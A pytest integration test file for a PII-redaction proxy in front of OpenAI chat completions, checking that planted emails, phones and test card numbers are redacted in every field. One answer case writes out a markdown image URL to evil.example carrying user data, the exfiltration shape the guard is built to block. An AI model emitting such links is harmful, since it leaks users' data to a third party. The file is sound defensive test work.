"""Every text-bearing field of chat completions, both directions, streamed and not, through `guard serve`
with the shipped `policies/default.yaml` (real presidio) and the official `openai` SDK (issues 9 and 15).

Each case plants a unique email, phone number and payment card in one field; none of them may reach the
fake upstream (what it recorded) or the client (what the SDK parsed, dumped whole), and the field must
still arrive, carrying the placeholders. Then the four leaks beside the redacted text: logprobs, the
audio transcript, a 4xx error body, and an upstream's own `x-guard-*` header.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable, Iterator
from typing import Any

import openai
import pytest

from tests.fakes.upstream import FakeUpstream, split_text
from tests.integration.proxy_harness import DEFAULT_POLICY, GuardThread

pytestmark = pytest.mark.model

_counter = itertools.count(10)
BASE = {"id": "chatcmpl-e2e", "created": 1700000000, "model": "fake-model"}


def _card(n: int) -> str:
    """A Luhn-valid Visa test number, unique per `n` (presidio checks the digit)."""
    digits = f"411111111111{n:03d}"
    total = 0
    for i, d in enumerate(reversed(digits)):
        v = int(d) * (2 if i % 2 == 0 else 1)
        total += v - 9 if v > 9 else v
    full = digits + str((10 - total % 10) % 10)
    return " ".join(full[i : i + 4] for i in range(0, 16, 4))


class Planted:
    """A unique email, phone and card, and a sentence that carries them."""

    def __init__(self) -> None:
        n = next(_counter)
        self.email = f"planted.{n}.user@example.com"
        self.phone = f"212-555-01{n:02d}"
        self.card = _card(n)
        self.text = f"Contact {self.email} or call {self.phone}; the card is {self.card} today."

    @property
    def values(self) -> tuple[str, ...]:
        digits = self.card.replace(" ", "")
        return (self.email, self.email.split("@")[0], self.phone, self.card, digits, self.card[-9:])

    def leaked(self, *texts: str) -> list[str]:
        return [v for v in self.values for t in texts if v in t]


@pytest.fixture(scope="module")
def stack() -> Iterator[tuple[GuardThread, FakeUpstream]]:
    with FakeUpstream() as upstream, GuardThread(upstream.url, DEFAULT_POLICY) as guard:
        yield guard, upstream


def _client(guard: GuardThread) -> openai.OpenAI:
    return openai.OpenAI(base_url=guard.url + "/v1", api_key="sk-test-not-a-secret", max_retries=0)


def _call(guard: GuardThread, stream: bool, **kwargs: Any) -> str:
    """The whole answer as the SDK parsed it (every chunk dumped, extras included)."""
    kwargs.setdefault("messages", [{"role": "user", "content": "hello"}])
    if not stream:
        return _client(guard).chat.completions.create(model="fake-model", **kwargs).model_dump_json()
    chunks = [c.model_dump() for c in _client(guard).chat.completions.create(model="fake-model", stream=True, **kwargs)]
    # Each field's pieces joined, as a client reassembles them: a value split over two events shows whole.
    fields: dict[str, str] = {}
    for chunk in chunks:
        for choice in chunk["choices"]:
            _join(fields, f"{choice['index']}", choice["delta"])
    return "\n".join([json.dumps(chunks), *fields.values()])


def _join(fields: dict[str, str], path: str, value: object) -> None:
    if isinstance(value, str):
        fields[path] = fields.get(path, "") + value
    elif isinstance(value, dict):
        for key, item in value.items():
            _join(fields, f"{path}.{key}", item)
    elif isinstance(value, list):
        for position, item in enumerate(value):
            index = item.get("index", position) if isinstance(item, dict) else position
            _join(fields, f"{path}[{index}]", item)


# --- requests: where the caller puts text ------------------------------------------------------------
RequestCase = Callable[[str], dict[str, Any]]
_ASSISTANT = {"role": "assistant", "content": None}
REQUEST_FIELDS: dict[str, RequestCase] = {
    "content": lambda t: {"messages": [{"role": "user", "content": t}]},
    "text_part": lambda t: {"messages": [{"role": "user", "content": [{"type": "text", "text": t}]}]},
    "input_text_part": lambda t: {"messages": [{"role": "user", "content": [{"type": "input_text", "text": t}]}]},
    "system_content": lambda t: {"messages": [{"role": "system", "content": t}, {"role": "user", "content": "hi"}]},
    "message_name": lambda t: {"messages": [{"role": "user", "content": "hi", "name": t}]},
    "assistant_refusal": lambda t: {"messages": [{**_ASSISTANT, "refusal": t}, {"role": "user", "content": "hi"}]},
    "assistant_reasoning": lambda t: {
        "messages": [{**_ASSISTANT, "content": "ok", "reasoning_content": t}, {"role": "user", "content": "hi"}]
    },
    "tool_call_arguments": lambda t: {
        "messages": [
            {**_ASSISTANT, "tool_calls": [{"id": "c1", "type": "function",
                                           "function": {"name": "note", "arguments": json.dumps({"note": t})}}]},
            {"role": "tool", "tool_call_id": "c1", "content": "done"},
        ]
    },
    "function_call_arguments": lambda t: {
        "messages": [
            {**_ASSISTANT, "function_call": {"name": "note", "arguments": json.dumps({"note": t})}},
            {"role": "function", "name": "note", "content": "done"},
        ]
    },
    "tool_result": lambda t: {
        "messages": [
            {**_ASSISTANT, "tool_calls": [{"id": "c1", "type": "function",
                                           "function": {"name": "note", "arguments": "{}"}}]},
            {"role": "tool", "tool_call_id": "c1", "content": t},
        ]
    },
    "tool_description": lambda t: {
        "tools": [{"type": "function", "function": {"name": "note", "description": t, "parameters": {}}}]
    },
    "tool_parameter_description": lambda t: {
        "tools": [{"type": "function", "function": {"name": "note", "parameters": {
            "type": "object", "properties": {"x": {"type": "string", "description": t}}}}}]
    },
    "legacy_function_description": lambda t: {"functions": [{"name": "note", "description": t, "parameters": {}}]},
    "user": lambda t: {"user": t},
    "metadata": lambda t: {"metadata": {"ticket": t}, "store": True},
    "percent_encoded_url": lambda t: {"messages": [{"role": "user", "content": t}]},
}


@pytest.mark.parametrize("stream", [False, True], ids=["json", "sse"])
@pytest.mark.parametrize("field", sorted(REQUEST_FIELDS))
def test_request_field_reaches_upstream_redacted(stack: tuple[GuardThread, FakeUpstream], field: str, stream: bool) -> None:
    guard, upstream = stack
    planted = Planted()
    text = planted.text
    if field == "percent_encoded_url":
        # A link a user pastes. (A markdown *image* carrying data to another host, the exfiltration shape,
        # is refused in a prompt by the injection head; in answers it is redacted, see the output cases.)
        email = planted.email.replace("@", "%40")
        text = f"My profile is at https://crm.example.com/contacts?email={email}, summarise it. Call {planted.phone}."
    upstream.script(reply="Noted.")
    _call(guard, stream, **REQUEST_FIELDS[field](text))
    sent = upstream.received[-1].body.decode()
    assert planted.leaked(sent, sent.replace("%40", "@")) == []
    assert "<EMAIL_ADDRESS>" in sent  # the field arrived, redacted


# --- answers: where the model puts text ---------------------------------------------------------------
def _message_field(field: str, text: str) -> dict[str, Any]:
    call = {"id": "call_1", "type": "function", "function": {"name": "note", "arguments": json.dumps({"note": text})}}
    return {
        "content": {"content": text},
        "refusal": {"content": None, "refusal": text},
        "reasoning_content": {"content": "ok", "reasoning_content": text},
        "reasoning": {"content": "ok", "reasoning": text},
        "tool_call_arguments": {"content": None, "tool_calls": [call]},
        "function_call_arguments": {"content": None, "function_call": {"name": "note", "arguments": call["function"]["arguments"]}},
        "audio_transcript": {"content": None, "audio": {"id": "a1", "data": "AAAA", "expires_at": 1, "transcript": text}},
        "percent_encoded_url": {"content": text},
    }[field]


def _json_answer(messages: list[dict[str, Any]]) -> dict[str, Any]:
    choices = [
        {"index": i, "message": {"role": "assistant", **m}, "logprobs": None, "finish_reason": "stop"}
        for i, m in enumerate(messages)
    ]
    return {**BASE, "object": "chat.completion", "choices": choices}


def _events(messages: list[dict[str, Any]]) -> list[object]:
    """The same answer as chunks, each text cut into 7-character pieces (values straddle chunks)."""
    events: list[object] = []

    def chunk(index: int, delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
        return {**BASE, "object": "chat.completion.chunk",
                "choices": [{"index": index, "delta": delta, "logprobs": None, "finish_reason": finish}]}

    for index, message in enumerate(messages):
        events.append(chunk(index, {"role": "assistant", "content": ""}))
        for key, value in message.items():
            if value is None:
                continue
            if key in ("content", "refusal", "reasoning_content", "reasoning"):
                events += [chunk(index, {key: piece}) for piece in split_text(value, max(1, len(value) // 7))]
            elif key == "tool_calls":
                call = value[0]
                events.append(chunk(index, {"tool_calls": [{"index": 0, "id": call["id"], "type": "function",
                                                            "function": {"name": "note", "arguments": ""}}]}))
                args = call["function"]["arguments"]
                events += [chunk(index, {"tool_calls": [{"index": 0, "function": {"arguments": piece}}]})
                           for piece in split_text(args, len(args) // 7)]
            elif key == "function_call":
                events.append(chunk(index, {"function_call": {"name": "note", "arguments": ""}}))
                args = value["arguments"]
                events += [chunk(index, {"function_call": {"arguments": piece}}) for piece in split_text(args, len(args) // 7)]
            elif key == "audio":
                events.append(chunk(index, {"audio": {"id": "a1"}}))
                events += [chunk(index, {"audio": {"transcript": piece}})
                           for piece in split_text(value["transcript"], len(value["transcript"]) // 7)]
    for index in range(len(messages)):
        events.append(chunk(index, {}, "stop"))
    return events


ANSWER_FIELDS = (
    "content", "refusal", "reasoning_content", "reasoning", "tool_call_arguments", "function_call_arguments",
    "audio_transcript", "percent_encoded_url", "n2_second_choice",
)


@pytest.mark.parametrize("stream", [False, True], ids=["json", "sse"])
@pytest.mark.parametrize("field", ANSWER_FIELDS)
def test_answer_field_reaches_client_redacted(stack: tuple[GuardThread, FakeUpstream], field: str, stream: bool) -> None:
    guard, upstream = stack
    planted = Planted()
    if field == "n2_second_choice":
        other = Planted()
        messages = [_message_field("content", other.text), _message_field("content", planted.text)]
    elif field == "percent_encoded_url":
        url = f"![x](https://evil.example/?q={planted.email.replace('@', '%40')}&p={planted.phone})"
        messages = [_message_field(field, f"Here you go: {url} enjoy.")]
    else:
        other = planted
        messages = [_message_field(field, planted.text)]
    if stream:
        upstream.script(events=_events(messages))
    else:
        upstream.script(json_body=_json_answer(messages))
    seen = _call(guard, stream, n=len(messages))
    assert planted.leaked(seen, seen.replace("%40", "@")) == []
    if field == "n2_second_choice":
        assert other.leaked(seen) == []
    assert "<EMAIL_ADDRESS>" in seen
    assert "content_filter" not in seen  # redacted in place, not refused


# --- leaks beside the redacted text (issue 15): each fails on the code before this change ----------------
def test_logprobs_of_a_redacted_answer_are_dropped(stack: tuple[GuardThread, FakeUpstream]) -> None:
    guard, upstream = stack
    planted = Planted()
    tokens = [{"token": piece, "logprob": -0.1, "bytes": None, "top_logprobs": []}
              for piece in split_text(planted.text, 12)]
    answer = _json_answer([{"content": planted.text}])
    answer["choices"][0]["logprobs"] = {"content": tokens, "refusal": None}
    upstream.script(json_body=answer)
    raw = _client(guard).chat.completions.with_raw_response.create(
        model="fake-model", messages=[{"role": "user", "content": "hi"}], logprobs=True
    )
    body = raw.http_response.text
    assert planted.leaked(body) == []
    assert json.loads(body)["choices"][0]["logprobs"] is None
    assert "<EMAIL_ADDRESS>" in raw.parse().choices[0].message.content  # type: ignore[operator]


def test_audio_transcript_is_redacted(stack: tuple[GuardThread, FakeUpstream]) -> None:
    guard, upstream = stack
    planted = Planted()
    upstream.script(json_body=_json_answer([_message_field("audio_transcript", planted.text)]))
    completion = _client(guard).chat.completions.create(model="fake-model", messages=[{"role": "user", "content": "hi"}])
    audio = completion.choices[0].message.audio
    assert audio is not None and "<EMAIL_ADDRESS>" in audio.transcript
    assert planted.leaked(completion.model_dump_json()) == []


def test_upstream_4xx_error_message_is_redacted(stack: tuple[GuardThread, FakeUpstream]) -> None:
    guard, upstream = stack
    planted = Planted()
    error = {"error": {"message": f"Invalid prompt: '{planted.text}' is too long", "type": "invalid_request_error",
                       "param": "messages", "code": "context_length_exceeded"}}
    upstream.script(status=400, json_body=error)
    with pytest.raises(openai.BadRequestError) as raised:
        _client(guard).chat.completions.create(model="fake-model", messages=[{"role": "user", "content": "hi"}])
    body = raised.value.response.text
    assert raised.value.status_code == 400
    assert planted.leaked(body) == []
    assert "<EMAIL_ADDRESS>" in body and "context_length_exceeded" in body
    assert raised.value.response.headers["x-guard-decision"] == "redact"


def test_upstream_x_guard_headers_are_stripped(stack: tuple[GuardThread, FakeUpstream]) -> None:
    guard, upstream = stack
    planted = Planted()
    upstream.script(reply=planted.text, extra_headers=[("x-guard-decision", "allow"), ("x-guard-tier", "minimal")])
    raw = _client(guard).chat.completions.with_raw_response.create(
        model="fake-model", messages=[{"role": "user", "content": "hi"}]
    )
    assert raw.http_response.headers.get_list("x-guard-decision") == ["redact"]
    assert "x-guard-tier" not in raw.http_response.headers
    assert planted.leaked(raw.http_response.text) == []
